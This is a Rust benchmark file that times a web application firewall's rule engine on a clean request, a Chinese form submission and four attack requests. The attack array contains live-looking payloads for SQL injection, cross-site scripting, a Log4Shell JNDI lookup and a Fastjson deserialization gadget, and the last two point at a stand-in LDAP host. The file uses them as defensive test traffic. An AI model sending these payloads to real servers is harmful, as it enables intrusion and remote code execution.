//! Evaluation time per request with all shipped rules, at paranoia 1 and 2: a clean GET with
//! four arguments, a 2 KB Chinese form POST, and attacks. `cargo bench --bench waf`.

use std::path::Path;

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use egret::waf::{Engine, OwnedRequest, SitePolicyConfig};

const CLEAN_GET: &str = "GET /search?q=%E6%94%BF%E5%8A%A1%E5%85%AC%E5%BC%80&page=2&sort=time&channel=12 HTTP/1.1\nHost: www.example.gov.cn\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\nAccept: text/html,application/xhtml+xml\nAccept-Language: zh-CN,zh;q=0.9\nCookie: JSESSIONID=8A3F0C2E1B7D; Hm_lvt_9f1f=1714012345\nReferer: https://www.baidu.com/link?url=abc";

const ATTACKS: &[&str] = &[
    "GET /news?id=1%27%20union%20select%201,2,database()--%20- HTTP/1.1\nHost: a\nUser-Agent: Mozilla/5.0",
    "GET /search?q=%3Csvg/onload=alert(document.domain)%3E HTTP/1.1\nHost: a\nUser-Agent: Mozilla/5.0",
    "GET / HTTP/1.1\nHost: a\nUser-Agent: ${jndi:ldap://x.example/a}",
    "POST /api HTTP/1.1\nHost: a\nContent-Type: application/json\n\n{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\",\"autoCommit\":true}",
];

fn chinese_form() -> String {
    let letter = "尊敬的市长：您好！我是某某小区的居民，想反映一个问题。我们小区门口的道路（长约300米）自去年以来一直在施工，导致出行非常不便；另外，夜间施工噪音严重影响休息。".repeat(6);
    let enc: String = letter.bytes().map(|b| format!("%{b:02X}")).collect();
    format!("POST /mailbox/write HTTP/1.1\nHost: a\nUser-Agent: Mozilla/5.0\nContent-Type: application/x-www-form-urlencoded\n\ntitle=%E5%92%A8%E8%AF%A2&name=%E5%BC%A0%E4%B8%89&phone=13800000000&content={enc}")
}

fn bench(c: &mut Criterion) {
    let engine = match Engine::load_dir(&Path::new(env!("CARGO_MANIFEST_DIR")).join("rulesets")) {
        Ok(e) => e,
        Err(errs) => panic!("rulesets: {errs:?}"),
    };
    let form = chinese_form();
    for pl in [1u8, 2] {
        let cfg = SitePolicyConfig {
            paranoia: pl,
            ..SitePolicyConfig::default()
        };
        let policy = cfg.compile(&engine).expect("default policy compiles");
        let clean = OwnedRequest::parse_raw(CLEAN_GET).expect("valid request");
        c.bench_function(&format!("pl{pl}/clean_get"), |b| {
            b.iter(|| black_box(clean.evaluate(&engine, &policy)))
        });
        let post = OwnedRequest::parse_raw(&form).expect("valid request");
        c.bench_function(&format!("pl{pl}/chinese_form_2kb"), |b| {
            b.iter(|| black_box(post.evaluate(&engine, &policy)))
        });
        let attacks: Vec<OwnedRequest> = ATTACKS
            .iter()
            .map(|r| OwnedRequest::parse_raw(r).expect("valid request"))
            .collect();
        c.bench_function(&format!("pl{pl}/attacks_avg_of_4"), |b| {
            b.iter(|| {
                for a in &attacks {
                    let _ = black_box(a.evaluate(&engine, &policy));
                }
            })
        });
    }
}

criterion_group!(benches, bench);
criterion_main!(benches);
